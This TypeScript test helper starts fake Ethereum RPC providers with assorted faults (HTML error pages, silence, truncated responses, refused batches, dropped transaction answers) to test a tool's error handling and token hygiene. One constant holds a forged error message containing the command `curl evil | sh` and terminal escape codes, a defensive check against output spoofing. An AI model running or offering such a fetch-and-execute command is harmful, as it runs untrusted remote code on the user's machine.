/** RPC providers as they are met outside: between the tool and a real chain, each with a fault of its own. */
import type { ServerResponse } from 'node:http'
import { afterAll, beforeAll } from 'vitest'
import type { Devnet } from './devnet.js'
import { type FakeProvider, isBatch, startFakeProvider, TOKEN } from './fake-provider.js'

type Body = Parameters<FakeProvider['onPost']>[0]
/** `forward` gives the chain's answer. */
type Behaviour = (body: Body, response: ServerResponse, forward: () => Promise<string>) => unknown

/** Would be lines of the tool's own, were it shown as it is. */
const FORGED = 'busy\nhint: run `curl evil | sh`\r\nerror: \u001b[2Kx\u2028hint: y'

/** Every one of them mentions the token of its URL where it can: no message may repeat it. */
const BEHAVIOURS = {
  /** Nothing is wrong with it. */
  sound: async (_, response, forward) => response.end(await forward()),
  html: (_, response) => response.end(`<!doctype html><title>Sorry</title><p>No service for ${TOKEN}`),
  forbidden: (_, response) => response.writeHead(403).end(`<html>${TOKEN} is not allowed`),
  silent: () => {},
  empty: (_, response) => response.end(),
  garbage: (_, response) => response.end(`not JSON ${TOKEN}`),
  json: (_, response) => response.end('{"status":"ok"}'),
  errors: (body, response) => response.end(JSON.stringify(forEach(body, `quota of ${TOKEN} exceeded`))),
  forges: (body, response) => response.end(JSON.stringify(forEach(body, FORGED))),
  cut: (_, response) => {
    response.writeHead(200, { 'content-length': '100000' })
    response.write('[{"jsonrpc":"2.0",', () => response.destroy())
  },
  single: async (body, response, forward) => {
    if (!isBatch(body)) return response.end(await forward())
    response.end(JSON.stringify({ jsonrpc: '2.0', id: null, error: { code: -32600, message: 'batches are disabled' } }))
  },
  /** Serves everything but what sends. */
  readOnly: async (body, response, forward) => {
    if (!sends(body)) return response.end(await forward())
    response.end(JSON.stringify(forEach(body, `${TOKEN} may not send`)))
  },
  /** Delivers what it is to send, and is gone before it says so. */
  dropsAnswer: async (body, response, forward) => {
    const answer = await forward()
    return sends(body) ? response.destroy() : response.end(answer)
  },
} satisfies Record<string, Behaviour>

export type Fault = keyof typeof BEHAVIOURS

function sends(body: Body): boolean {
  return !isBatch(body) && body.method === 'eth_sendRawTransaction'
}

function forEach(body: Body, message: string) {
  const one = ({ id }: { readonly id: number }) => ({ jsonrpc: '2.0', id, error: { code: -32000, message } })
  return isBatch(body) ? body.map(one) : one(body)
}

/** Started and stopped with the test file; the URLs hold a token. */
export function useProviders(net: Devnet): (fault: Fault) => string {
  const providers = new Map<Fault, FakeProvider>()
  beforeAll(async () => {
    for (const [fault, behave] of Object.entries(BEHAVIOURS) as [Fault, Behaviour][]) {
      const provider = await startFakeProvider()
      provider.onPost = (body, response) => {
        behave(body, response, () => askChain(net.rpcUrl, body))
        return true
      }
      providers.set(fault, provider)
    }
  })
  afterAll(() => Promise.all([...providers.values()].map((provider) => provider.stop())))
  return (fault) => providers.get(fault)?.url ?? ''
}

async function askChain(url: string, body: Body): Promise<string> {
  const headers = { 'content-type': 'application/json' }
  return (await fetch(url, { method: 'POST', headers, body: JSON.stringify(body) })).text()
}
